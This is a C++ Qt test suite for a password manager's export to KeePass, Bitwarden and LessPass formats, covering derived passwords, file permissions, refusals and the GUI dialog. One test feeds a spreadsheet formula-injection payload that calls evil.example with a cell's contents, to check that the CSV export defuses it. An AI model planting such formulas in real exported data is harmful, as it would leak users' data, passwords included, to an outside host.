#include "export.h"
#include "main.h"
#include "profilefile.h"
#include "testsupport.h"
#include "zav.h"

#include <QAction>
#include <QComboBox>
#include <QFileDialog>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLabel>
#include <QLineEdit>
#include <QProcess>
#include <QPushButton>
#include <QStandardPaths>
#include <QTextEdit>
#include <QtTest>

#include <sys/stat.h>

using namespace TestSupport;

namespace {

Run run(const QString &program, const QStringList &args, const QByteArray &input = QByteArray())
{
    return runProgram(program, args, input);
}

Run cli(const QStringList &args, const QByteArray &input = QByteArray())
{
    return runProgram(QStringLiteral(QUORVANE_CLI), args, input);
}

int modeOf(const QString &path)
{
    struct stat info{};
    return ::stat(QFile::encodeName(path).constData(), &info) == 0 ? int(info.st_mode & 0777) : -1;
}

// A record of a CSV text (RFC 4180), fields unquoted.
QList<QStringList> csvRecords(const QString &text)
{
    QList<QStringList> records{{}};
    QString field;
    bool quoted = false;
    for (int i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted && c == QLatin1Char('"') && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('"')) {
            field += c;
            ++i;
        } else if (c == QLatin1Char('"')) {
            quoted = !quoted;
        } else if (!quoted && c == QLatin1Char(',')) {
            records.last() << field;
            field.clear();
        } else if (!quoted && c == QLatin1Char('\r')) {
        } else if (!quoted && c == QLatin1Char('\n')) {
            records.last() << field;
            field.clear();
            records << QStringList();
        } else {
            field += c;
        }
    }
    records.removeLast();
    return records;
}

// The profiles of the tests: every scheme, an address, a bare word, a login.
const QStringList lines{"bank.example|16|strong", "mail.example|20|lesspass|aA9!|1|me@mail.example",
                        "https://shop.example/login|12|strong|aA9!|2", "my bank|8",
                        "site.example|0|spectre|long|1|3|password|Robert||kept login", "odd|16|strong|aA9!"};
const QStringList uris{"https://bank.example/", "https://mail.example/", "https://shop.example/login", "",
                       "https://site.example/"};
const QStringList users{"", "me@mail.example", "", "", "kept login"};

}

// Export to other password managers: each format read back by its real reader where one is
// installed (keepassxc-cli) or parsed, every entry's password the one derive --profile gives.
class TestExport : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void cleanup();
    void keePassXmlReadByKeePassXC();
    void bitwardenFormats();
    void lessPassBackAgain();
    void refusalsAndModes();
    void cellsAndLimits();
    void window();

private:
    QString derived(const QString &line) const;
    std::unique_ptr<TempHome> home;
};

void TestExport::init()
{
    home.reset(new TempHome);
    for (const QString &line : lines)
        ProfileFile::append(home->profileFile(), line);
}

void TestExport::cleanup()
{
    home.reset();
}

QString TestExport::derived(const QString &line) const
{
    return QString::fromUtf8(cli({"derive", "--profile=" + line}, "hello").out).trimmed();
}

void TestExport::keePassXmlReadByKeePassXC()
{
    const QString xml = home->path() + QStringLiteral("/export.xml");
    const Run exported = cli({"export", "--format=keepass-xml", "--output=" + xml}, "hello\n");
    QVERIFY2(exported.code == 0, exported.err.constData());
    QVERIFY(exported.err.contains("skipped \"odd|16|strong|aA9!\""));
    QVERIFY(exported.err.contains("wrote 5 entries") && exported.err.contains("every password in clear"));
    QCOMPARE(modeOf(xml), 0600);
    const QString keepass = QStandardPaths::findExecutable(QStringLiteral("keepassxc-cli"));
    if (keepass.isEmpty())
        QSKIP("keepassxc-cli is not installed");
    const QString database = home->path() + QStringLiteral("/imported.kdbx");
    const Run imported = run(keepass, {"import", "-p", xml, database}, "secret\nsecret\n");
    QVERIFY2(imported.code == 0, imported.err.constData());
    const Run listed = run(keepass, {"ls", "-q", database}, "secret\n");
    QCOMPARE(listed.out.split('\n').size() - 1, 5);
    for (int i = 0; i < 5; ++i) {
        Recipe recipe;
        Recipe::fromLine(lines.at(i), &recipe);
        const Run shown = run(keepass, {"show", "-q", "-s", "-a", "Password", "-a", "URL", "-a", "UserName", "-a", "Notes",
                                        database, recipe.identifier}, "secret\n");
        const QString expected = QStringList{derived(lines.at(i)), uris.at(i), users.at(i), lines.at(i)}.join('\n') + '\n';
        QCOMPARE(QString::fromUtf8(shown.out), expected);
    }
}

void TestExport::bitwardenFormats()
{
    const QJsonObject json = QJsonDocument::fromJson(cli({"export", "--format=bitwarden-json"}, "hello").out).object();
    QCOMPARE(json.value("encrypted").toBool(true), false);
    const QJsonArray items = json.value("items").toArray();
    QCOMPARE(items.size(), 5);
    const QList<QStringList> csv = csvRecords(QString::fromUtf8(cli({"export", "--format=bitwarden-csv"}, "hello").out));
    QCOMPARE(csv.value(0).join(','), QStringLiteral("folder,favorite,type,name,notes,fields,reprompt,login_uri,login_username,"
                                                    "login_password,login_totp"));
    QCOMPARE(csv.size(), 6);
    for (int i = 0; i < 5; ++i) {
        Recipe recipe;
        Recipe::fromLine(lines.at(i), &recipe);
        const QString password = derived(lines.at(i));
        const QJsonObject item = items.at(i).toObject();
        const QJsonObject login = item.value("login").toObject();
        QCOMPARE(item.value("type").toInt(), 1);
        QCOMPARE(item.value("name").toString(), recipe.identifier);
        QCOMPARE(item.value("notes").toString(), lines.at(i));
        QCOMPARE(login.value("password").toString(), password);
        QCOMPARE(login.value("username").toString(), users.at(i));
        QCOMPARE(login.value("uris").toArray().isEmpty() ? QString() : login.value("uris").toArray().at(0).toObject().value("uri").toString(),
                 uris.at(i));
        QCOMPARE(csv.at(i + 1), (QStringList{"", "", "login", recipe.identifier, lines.at(i), "", "0", uris.at(i), users.at(i),
                                             password, ""}));
    }
}

void TestExport::lessPassBackAgain()
{
    // No phrase is read; LessPass's own profiles only; our import reads it back as the same lines.
    const QString file = home->path() + QStringLiteral("/lesspass.json");
    QCOMPARE(cli({"profiles", "add", "-i", "second.example", "--scheme=lesspass", "-l", "12", "--rule=aA9", "--counter=3"}).code, 0);
    QCOMPARE(cli({"export", "--format=lesspass-json", "--output=" + file}).code, 0);
    const QJsonObject json = QJsonDocument::fromJson(fileBytes(file)).object();
    QCOMPARE(json.value("count").toInt(), 2);
    QVERIFY(json.value("next").isNull() && json.value("previous").isNull());
    const QJsonObject first = json.value("results").toArray().at(0).toObject();
    QCOMPARE(first.keys(), (QStringList{"counter", "digits", "length", "login", "lowercase", "site", "symbols", "uppercase", "version"}));
    QCOMPARE(first.value("version").toInt(), 2);
    TempHome fresh;
    QCOMPARE(cli({"profiles", "import", file}).out, QByteArray("imported 2, already saved 0, skipped 0\n"));
    QCOMPARE(cli({"profiles", "list"}).out, QByteArray("mail.example|20|lesspass|aA9!|1|me@mail.example\nsecond.example|12|lesspass|aA9|3|\n"));
}

void TestExport::refusalsAndModes()
{
    const QString file = home->path() + QStringLiteral("/existing.xml");
    writeFile(file, "mine");
    const QList<QPair<QStringList, QByteArray>> refused{
        {{"export", "--format=keepass-xml", "--output=" + file}, "exists already"},
        {{"export", "--format=pdf"}, "unknown format \"pdf\""},
        {{"export"}, "--format is required"},
    };
    for (const auto &[args, message] : refused) {
        const Run r = cli(args, "hello");
        QVERIFY2(r.code == 2 && r.err.contains(message) && r.out.isEmpty(), r.err.constData());
    }
    QCOMPARE(fileBytes(file), QByteArray("mine"));
    // An empty profile file: no entries, and no phrase asked for.
    writeFile(home->profileFile(), "");
    QCOMPARE(QJsonDocument::fromJson(cli({"export", "--format=bitwarden-json"}).out).object().value("items").toArray().size(), 0);
}

void TestExport::cellsAndLimits()
{
    // A name a spreadsheet would run gets a leading "'"; the password stays whole.
    const QString formula = QStringLiteral("=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")");
    writeFile(home->profileFile(), (formula + QStringLiteral("|16|strong\r\n-minus|16|strong\r\nesc\x1bname|16|strong\r\n")).toUtf8());
    const QList<QStringList> records = csvRecords(QString::fromUtf8(cli({"export", "--format=bitwarden-csv"}, "hello").out));
    QCOMPARE(records.size(), 4);
    QCOMPARE(records.at(1).at(3), QLatin1Char('\'') + formula);
    QCOMPARE(records.at(1).at(4), QLatin1Char('\'') + formula + QStringLiteral("|16|strong"));
    QCOMPARE(records.at(2).at(3), QStringLiteral("'-minus"));
    for (int row = 1; row <= 3; ++row)
        QCOMPARE(records.at(row).at(9), derived(records.at(row).at(4).mid(records.at(row).at(4).startsWith('\'') ? 1 : 0)));
    // KeePass's XML cannot hold control characters: said, by the profile's name.
    const Run xml = cli({"export", "--format=keepass-xml"}, "hello");
    QCOMPARE(xml.code, 0);
    QVERIFY2(xml.err.contains("\"esc\\x1Bname\": its control characters are left out"), xml.err.constData());

    // Past the file size limit: no kill by SIGXFSZ, no temporary file with passwords left, exit 3.
    const QString target = home->path() + QStringLiteral("/o1.xml");
    const Run limited = runProgram(QStringLiteral("/bin/sh"), {"-c", "ulimit -f 1; exec \"$0\" export --format=keepass-xml --output=\"$1\"",
                                                              QStringLiteral(QUORVANE_CLI), target}, QByteArray(3000, 'p'));
    QCOMPARE(limited.code, 3);
    QVERIFY2(limited.err.contains("nothing was written"), limited.err.constData());
    QCOMPARE(QDir(home->path()).entryList({"o1.xml*"}, QDir::Files | QDir::Hidden), QStringList());

    // During a change of the secret phrase (seen from the lines' marks alone): no password
    // export, since no one phrase makes every site's password; LessPass's file has none.
    writeFile(home->profileFile(), "bank.example|16|strong|#2\r\nshop.example|16|strong\r\n");
    for (const char *format : {"--format=bitwarden-csv", "--format=keepass-xml", "--format=bitwarden-json"}) {
        const Run r = cli({"export", format}, "new phrase");
        QCOMPARE(r.code, 1);
        QVERIFY2(r.err.contains("1 profile still uses the previous phrase and 1 the new one") && r.out.isEmpty(), r.err.constData());
    }
    QCOMPARE(cli({"export", "--format=lesspass-json"}).code, 0);
}

void TestExport::window()
{
    // The window's export: the warning, the file written 0600 at the end; Cancel writes nothing.
    zav window;
    window.show();
    Start_up();
    const QString file = home->path() + QStringLiteral("/window.json");
    const QString cancelled = home->path() + QStringLiteral("/cancelled.xml");
    // Walks the dialog: the format, the phrase, Export..., the file chosen; then waits for the
    // file, or cancels at once. What the dialog said in *warning and *status.
    QString proposed;
    bool boxFits = false;
    const auto walk = [&](const QString &target, int format, bool cancel, QString *warning, QString *status) {
        bool chosen = false;
        answerModals([&] { window.findChild<QAction *>(QStringLiteral("actionExport"))->trigger(); }, [&](QWidget *dialog) {
            if (auto *chooser = qobject_cast<QFileDialog *>(dialog)) {
                // The export dialog's phrase box: as wide as its format box, one line high.
                if (QWidget *exporting = chooser->parentWidget()) {
                    auto *phrase = exporting->findChild<QTextEdit *>(QStringLiteral("phraseedit"));
                    auto *formats = exporting->findChild<QComboBox *>(QStringLiteral("formatcombo"));
                    boxFits = phrase && formats && phrase->width() >= formats->width() - 1
                              && phrase->height() < 2 * phrase->fontMetrics().lineSpacing() + 16;
                }
                // What it proposes: a name and a filter of the format's own.
                proposed = chooser->findChild<QLineEdit *>(QStringLiteral("fileNameEdit"))->text() + QLatin1Char(' ')
                           + chooser->nameFilters().value(0);
                // As a user does: the name typed into the dialog's name field, then Save.
                chooser->findChild<QLineEdit *>(QStringLiteral("fileNameEdit"))->setText(target);
                static_cast<QDialog *>(chooser)->accept();
                chosen = true;
                return true;
            }
            if (dialog->objectName() != QLatin1String("exportdialog") || dialog->property("walked").toBool())
                return false;
            dialog->setProperty("walked", true);
            dialog->findChild<QComboBox *>(QStringLiteral("formatcombo"))->setCurrentIndex(format);
            *warning = dialog->findChild<QLabel *>(QStringLiteral("warning"))->text();
            dialog->findChild<QTextEdit *>(QStringLiteral("phraseedit"))->setPlainText(QStringLiteral("hello"));
            dialog->findChild<QPushButton *>(QStringLiteral("exportbutton"))->click();
            auto *label = dialog->findChild<QLabel *>(QStringLiteral("statuslabel"));
            if (cancel)
                dialog->findChild<QPushButton *>(QStringLiteral("cancelbutton"))->click();
            for (int waited = 0; !cancel && !label->text().startsWith(QLatin1String("Wrote")) && waited < 600; ++waited)
                QTest::qWait(100);
            *status = label->text();
            dialog->close();
            return true;
        });
        return chosen;
    };
    QString warning;
    QString status;
    QVERIFY(walk(file, 1, false, &warning, &status));
    QCOMPARE(proposed, QStringLiteral("quorvane-export.json Bitwarden JSON (*.json)"));
    QVERIFY(boxFits);
    QVERIFY(warning.contains(QLatin1String("every password in clear")));
    QVERIFY2(status.startsWith(QLatin1String("Wrote 5 entries")), qPrintable(status));
    QCOMPARE(modeOf(file), 0600);
    QCOMPARE(QJsonDocument::fromJson(fileBytes(file)).object().value("items").toArray().size(), 5);
    QVERIFY(walk(cancelled, 0, true, &warning, &status));
    QCOMPARE(proposed, QStringLiteral("quorvane-export.xml KeePass 2 XML (*.xml)"));
    QVERIFY2(status.contains(QLatin1String("Cancelled")), qPrintable(status));
    QVERIFY(!QFileInfo::exists(cancelled));
    QCOMPARE(QDir(home->path()).entryList(QStringList{"*.quorvane-*"}, QDir::Files), QStringList());
}

QTEST_MAIN(TestExport)
#include "TestExport.moc"
